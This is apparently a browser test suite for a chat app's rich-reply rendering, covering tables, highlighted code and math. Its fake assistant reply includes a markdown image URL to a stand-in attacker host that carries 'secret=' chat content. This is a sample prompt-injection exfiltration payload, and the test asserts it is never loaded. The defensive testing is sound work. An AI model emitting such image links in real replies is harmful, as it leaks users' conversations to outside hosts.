import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startAppServer, type AppServer } from "../support/app-server";
import { desktop, launchBrowser, phone, screenshot, signInWithPassword } from "../support/browser";
import { ADMIN, setUpAdmin } from "../support/fixtures";

/** A host the page must never contact: a prompt injection would smuggle chat content out this way. */
const EXFIL_HOST = "exfil.attacker.test";

const RICH_REPLY = [
  "Here is a comparison:",
  "",
  "| Model | Enclave | Price |",
  "| --- | --- | --- |",
  "| Alpha | yes | $0.10 |",
  "| Beta | no | $0.20 |",
  "",
  "```ts",
  "export function greet(name: string): string {",
  "  return `Hello, ${name}!`;",
  "}",
  "```",
  "",
  "Inline math $e^{i\\pi} + 1 = 0$ and a block:",
  "",
  "$$",
  "\\int_0^1 x^2 \\, dx = \\frac{1}{3}",
  "$$",
  "",
  `![a chart](https://${EXFIL_HOST}/pixel.png?secret=the-users-question)`,
  "",
  "[RedPill](https://redpill.ai) is where this came from.",
].join("\n");

describe("rich replies in the browser", () => {
  let app: AppServer;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  const offsite: string[] = [];

  beforeAll(async () => {
    app = await startAppServer({ database: "embedded" });
    await setUpAdmin(app);
    browser = await launchBrowser();
    context = await browser.newContext(desktop);
    context.on("request", (request) => {
      if (new URL(request.url()).host === EXFIL_HOST) offsite.push(request.url());
    });
    page = await context.newPage();
    await signInWithPassword(page, app.url, ADMIN);
  });

  afterAll(async () => {
    await browser?.close();
    await app?.stop();
  });

  it("renders tables, highlighted code, math and links, and never loads an image from another host", async () => {
    const response = await page.goto(`${app.url}/`);
    expect(response!.headers()["content-security-policy"]).toContain("img-src 'self' data: blob:");

    app.fake!.enqueue({ type: "reply", text: RICH_REPLY });
    await page.getByPlaceholder(/message/i).fill("Show me everything you can format");
    await page.keyboard.press("Enter");
    const reply = page.getByTestId("message-assistant").first();
    await expect.poll(() => reply.getAttribute("data-status"), { timeout: 20_000 }).toBe("ok");

    await reply.locator("table").waitFor();
    expect(await reply.locator("table td").allTextContents()).toEqual(["Alpha", "yes", "$0.10", "Beta", "no", "$0.20"]);
    // Shiki tokens carry their colours as inline styles.
    await expect.poll(() => reply.locator("pre span[style*='--shiki']").count(), { timeout: 10_000 }).toBeGreaterThan(3);
    expect(await reply.locator("pre").first().textContent()).toContain("return `Hello, ${name}!`;");
    expect(await reply.locator(".katex").count()).toBeGreaterThanOrEqual(2);
    expect(await reply.locator(".katex-display").count()).toBe(1);

    expect(await reply.locator("img").count()).toBe(0);
    const imageLink = reply.getByTestId("reply-image-link");
    expect(await imageLink.textContent()).toContain(EXFIL_HOST);
    expect(await imageLink.getAttribute("rel")).toContain("noopener");
    expect(offsite).toEqual([]);

    await screenshot(page, "chat-rich-reply-light");
    const dark = await browser.newContext({ ...desktop, colorScheme: "dark", storageState: await context.storageState() });
    const darkPage = await dark.newPage();
    await darkPage.goto(page.url());
    await darkPage.getByTestId("message-assistant").first().locator("pre span[style*='--shiki']").first().waitFor();
    await screenshot(darkPage, "chat-rich-reply-dark");
    await dark.close();
    const small = await browser.newContext({ ...phone, storageState: await context.storageState() });
    const phonePage = await small.newPage();
    await phonePage.goto(page.url());
    await phonePage.getByTestId("message-assistant").first().locator("pre span[style*='--shiki']").first().waitFor();
    await screenshot(phonePage, "chat-rich-reply-phone");
    await small.close();
  });
});
